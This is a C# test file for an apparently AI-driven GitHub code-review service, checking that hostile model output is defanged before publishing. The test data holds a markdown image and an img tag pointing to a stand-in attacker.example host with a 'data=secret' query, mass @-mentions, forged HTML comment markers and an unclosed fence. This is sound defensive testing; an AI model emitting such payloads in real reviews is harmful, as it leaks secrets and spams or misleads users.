using System.Text.Json.Nodes;
using System.Text.RegularExpressions;
using ReviewBot.Tests.TestSupport;
using static ReviewBot.Tests.TestSupport.FakeModelReply;
using static ReviewBot.Tests.TestSupport.HostileText;

namespace ReviewBot.Tests.Publishing;

/// <summary>
/// Model output written to attack the page it is posted on, through the whole service: what reaches GitHub (the review,
/// its comments, the check run and its annotations) keeps none of it live.
/// </summary>
public sealed class DefangEndToEndTests : PublishingTest
{
    private string RepositoryBlob => $"{GitHub.BaseUrl}Codertocat/Hello-World/blob/{Head}/{Invoice}#L12";

    private JsonObject Hostile() => Finding(Invoice, 12, 12, "P1", 0.92, "Loop skips the first line @acme/everyone <!--",
        $"The loop starts at 1 ![t](https://attacker.example/x?data=secret), see [the loop]({RepositoryBlob}).\n" +
        $"@acme/everyone @someone and @octocat should know. <img src=\"https://attacker.example/p.png\">\n{ForgedMarker}\n```\nstill open",
        [(Invoice, 12, BillingRepository.BuggyLoop)], replacement: "        for (var i = 0; i < _lines.Count; i++)");

    [Test]
    public async Task A_hostile_finding_reaches_the_review_and_the_check_run_with_nothing_live()
    {
        Model.Default = _ => Review("partial", $"Mostly. {Attack}", Hostile());
        await using var app = App();

        await DeliverAsync(app, "pull_request", PullRequestPayload("opened"));
        var run = await CompletedRunAsync(Head);

        var review = ReviewsByTheApp().Single();
        var comment = GitHub.ReviewComments.Single();
        var summary = run.Output!["summary"]!.GetValue<string>();
        var annotations = await AnnotationsAsync(1);
        using (Assert.EnterMultipleScope())
        {
            AssertNothingLive(review.Body, "review body", author: "octocat", markers: 1);
            AssertNothingLive(comment.Body, "comment", author: "octocat", markers: 1);
            AssertNothingLive(summary, "check run summary");
            Assert.That(comment.Body, Does.EndWith(Regex.Match(comment.Body, "<!-- reviewbot:finding [^>]+ -->").Value));
            Assert.That(review.Body, Does.EndWith($"<!-- reviewbot:review head={Head} -->"));
            Assert.That(comment.Body, Does.Contain($"[the loop]({RepositoryBlob})"), "a link into the repository stays one");
            Assert.That(comment.Body, Does.Contain("@octocat should know"), "the author is addressed in the review");
            Assert.That(comment.Body, Does.Contain("still open\n```\n"), "the fence the model left open is closed before the evidence");
            Assert.That(comment.Body, Does.Contain("```suggestion\n        for (var i = 0; i < _lines.Count; i++)\n```"));
            Assert.That(annotations, Has.Count.EqualTo(1));
            // GitHub shows annotations as plain text: no image or link renders there, but a comment or a mention must not be in it either.
            var annotation = annotations[0]!["title"]!.GetValue<string>() + annotations[0]!["message"]!.GetValue<string>();
            Assert.That(annotation, Does.Not.Contain("<!--").And.Not.Contain("<img").And.Not.Match(@"(?<![A-Za-z0-9])@[A-Za-z0-9]"), "annotation");
        }
    }

    [Test]
    public async Task An_over_long_explanation_is_capped_in_the_comment_and_the_check_run()
    {
        var finding = Loop();
        finding["explanation"] = string.Concat(Enumerable.Repeat("The loop starts at 1. ", 5_000));
        Model.Default = _ => Review("matches", "ok", finding);
        await using var app = App();

        await DeliverAsync(app, "pull_request", PullRequestPayload("opened"));
        var run = await CompletedRunAsync(Head);

        var comment = GitHub.ReviewComments.Single();
        var annotation = (await AnnotationsAsync(1)).Single();
        // The explanation once at its cap, and a shorter copy in the collapsed prompt for the user's coding agent.
        Assert.That(comment.Body.Length, Is.LessThan(ReviewBot.Publishing.MarkdownDefanger.ExplanationLength + 1_000 + 1_500 + 1_000));
        Assert.That(run.Output!["summary"]!.GetValue<string>().Length, Is.LessThan(ReviewBot.Publishing.MarkdownDefanger.ExplanationLength * 2 + 2_000));
        Assert.That(annotation!["message"]!.GetValue<string>().Length, Is.LessThanOrEqualTo(ReviewBot.Publishing.MarkdownDefanger.ExplanationLength));
    }
}
